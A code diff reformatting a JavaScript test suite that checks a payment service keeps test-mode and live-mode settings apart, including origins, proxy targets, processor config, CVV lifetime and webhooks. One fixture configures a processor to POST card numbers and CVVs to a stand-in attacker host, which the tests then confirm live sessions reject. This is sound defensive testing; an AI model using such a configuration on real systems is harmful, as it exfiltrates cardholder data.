@@ -21,14 +21,20 @@ describe('test and live are separate worlds for settings too', () => {
 
   it('a test key changes only the test settings: origins, proxy targets, processor, CVC lifetime, block threshold', async () => {
     const liveBefore = (await get(m.liveKey)).body;
-    const patch = await request(h.app).patch('/Merchant').set(auth(m.testKey)).send({
-      allowedOrigins: ['https://attacker.example'], allowedProxyTargets: ['https://collect.attacker.example/'],
-      processor: {
-        type: 'http', request: { method: 'POST', url: 'https://collect.attacker.example/charge', headers: {}, body: '{"pan":"${cardNumber}","cvv":"${cvv}"}' },
-        response: { approved: { path: 'ok', equals: true } },
-      },
-      cvcSessionTtlSeconds: 3600, cvvBlockThreshold: 20,
-    });
+    const patch = await request(h.app)
+      .patch('/Merchant')
+      .set(auth(m.testKey))
+      .send({
+        allowedOrigins: ['https://attacker.example'],
+        allowedProxyTargets: ['https://collect.attacker.example/'],
+        processor: {
+          type: 'http',
+          request: { method: 'POST', url: 'https://collect.attacker.example/charge', headers: {}, body: '{"pan":"${cardNumber}","cvv":"${cvv}"}' },
+          response: { approved: { path: 'ok', equals: true } },
+        },
+        cvcSessionTtlSeconds: 3600,
+        cvvBlockThreshold: 20,
+      });
     assert.equal(patch.status, 200, JSON.stringify(patch.body));
     assert.deepEqual(patch.body.allowedOrigins, ['https://attacker.example']);
     const live = (await get(m.liveKey)).body;
@@ -50,7 +56,10 @@ describe('test and live are separate worlds for settings too', () => {
   it("a live session's operations and hosted form never accept the origins set with the test key", async () => {
     const card = await makeCard(h, m.liveKey, { number: LIVE_CARD });
     const s = await makeSession(h, m.liveKey, { card });
-    const fromAttacker = await request(h.app).post('/CvvOperations/collectCvv').set({ ...auth(s.token), Origin: 'https://attacker.example' }).send({ cvv: '123' });
+    const fromAttacker = await request(h.app)
+      .post('/CvvOperations/collectCvv')
+      .set({ ...auth(s.token), Origin: 'https://attacker.example' })
+      .send({ cvv: '123' });
     assert.equal(fromAttacker.status, 403);
     assert.equal(fromAttacker.body.error.code, 'origin_not_allowed');
     const page = await request(h.app).get(`/hosted/cvv?session=${s.id}`);
@@ -58,7 +67,10 @@ describe('test and live are separate worlds for settings too', () => {
     const csp = String(page.headers['content-security-policy']);
     assert.match(csp, /frame-ancestors[^;]*https:\/\/shop\.example/);
     assert.ok(!csp.includes('attacker.example'), 'the live hosted form cannot be framed by the origin the test key set');
-    const fromShop = await request(h.app).post('/CvvOperations/collectCvv').set({ ...auth(s.token), Origin: 'https://shop.example' }).send({ cvv: '123' });
+    const fromShop = await request(h.app)
+      .post('/CvvOperations/collectCvv')
+      .set({ ...auth(s.token), Origin: 'https://shop.example' })
+      .send({ cvv: '123' });
     assert.equal(fromShop.status, 200, JSON.stringify(fromShop.body));
     // A live CVV lives the live lifetime (90 s), not the hour the test key asked for.
     const left = Date.parse(fromShop.body.result.cvcSession.expiresAt) - h.clock.now();
@@ -66,14 +78,20 @@ describe('test and live are separate worlds for settings too', () => {
   });
 
   it('a live key changes only the live settings', async () => {
-    const r = await request(h.app).patch('/Merchant').set(auth(m.liveKey)).send({ allowedOrigins: ['https://live-shop.example'] });
+    const r = await request(h.app)
+      .patch('/Merchant')
+      .set(auth(m.liveKey))
+      .send({ allowedOrigins: ['https://live-shop.example'] });
     assert.equal(r.status, 200);
     assert.deepEqual((await get(m.testKey)).body.allowedOrigins, ['https://attacker.example']);
     assert.deepEqual((await get(m.liveKey)).body.allowedOrigins, ['https://live-shop.example']);
   });
 
   it('webhook endpoints belong to the mode that created them', async () => {
-    const created = await request(h.app).post('/WebhookEndpoints').set(auth(m.testKey)).send({ url: 'https://hooks.example/test', events: ['charge.succeeded'] });
+    const created = await request(h.app)
+      .post('/WebhookEndpoints')
+      .set(auth(m.testKey))
+      .send({ url: 'https://hooks.example/test', events: ['charge.succeeded'] });
     assert.equal(created.status, 201, JSON.stringify(created.body));
     const live = await request(h.app).get('/WebhookEndpoints').set(auth(m.liveKey));
     assert.ok(!JSON.stringify(live.body).includes(created.body.id), 'the live key does not see it');
